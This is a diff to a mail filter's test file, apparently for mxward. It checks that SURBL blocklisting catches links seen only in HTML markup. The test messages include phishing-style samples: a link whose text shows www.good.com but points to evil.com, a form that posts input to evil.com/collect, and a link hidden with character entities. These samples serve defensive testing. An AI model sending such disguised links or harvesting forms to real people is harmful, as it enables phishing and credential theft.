@@ -1,16 +1,7 @@
 # 513-surbl-html-link.t: a link that only the markup shows is found, whatever the text says
 config: checks: { surbl: { lists: [{ zone: multi.test, score: 12 }] } }
 D: evil.com.multi.test A 127.0.0.2
-C> connect from 192.0.2.1
-S< 220 *
-C> EHLO mail.example
-S< 250-*
-C> MAIL FROM:<a@example.org>
-S< 250 *
-C> RCPT TO:<b@example.com>
-S< 250 *
-C> DATA
-S< 354 *
+C> session from 192.0.2.1, envelope, content
 C> From: A <a@example.org>
 C> Subject: hello
 C> MIME-Version: 1.0
@@ -19,12 +10,7 @@ C>
 C> <html><body><p>Visit <a href="http://login.evil.com/">www.good.com</a></p></body></html>
 C> .
 S< 550 5.7.1 Message content rejected: evil.com on multi.test 127.0.0.2 (mxward *)
-C> MAIL FROM:<a@example.org>
-S< 250 *
-C> RCPT TO:<b@example.com>
-S< 250 *
-C> DATA
-S< 354 *
+C> envelope, content
 C> From: A <a@example.org>
 C> Subject: hello
 C> MIME-Version: 1.0
@@ -33,12 +19,7 @@ C>
 C> <form method=post action=//evil.com/collect><input name=p></form>
 C> .
 S< 550 5.7.1 Message content rejected: evil.com on multi.test 127.0.0.2 (mxward *)
-C> MAIL FROM:<a@example.org>
-S< 250 *
-C> RCPT TO:<b@example.com>
-S< 250 *
-C> DATA
-S< 354 *
+C> envelope, content
 C> From: A <a@example.org>
 C> Subject: hello
 C> MIME-Version: 1.0
@@ -47,12 +28,7 @@ C>
 C> <a href="h&#116;tp://ev&#x69;l&period;com/">good</a>
 C> .
 S< 550 5.7.1 Message content rejected: evil.com on multi.test 127.0.0.2 (mxward *)
-C> MAIL FROM:<a@example.org>
-S< 250 *
-C> RCPT TO:<b@example.com>
-S< 250 *
-C> DATA
-S< 354 *
+C> envelope, content
 C> From: A <a@example.org>
 C> Subject: hello
 C> MIME-Version: 1.0
@@ -61,7 +37,6 @@ C>
 C> <html><a href="http://evil.com/">good</a></html>
 C> .
 S< 550 5.7.1 Message content rejected: evil.com on multi.test 127.0.0.2 (mxward *)
-C> QUIT
-S< 221 *
+C> goodbye
 U= messages 0
 L< {"event": "message", "action": "reject", "rule": "score", "score": 12, "evidence": [{"check": "surbl", "fact": "listed", "detail": "evil.com on multi.test 127.0.0.2"}]}
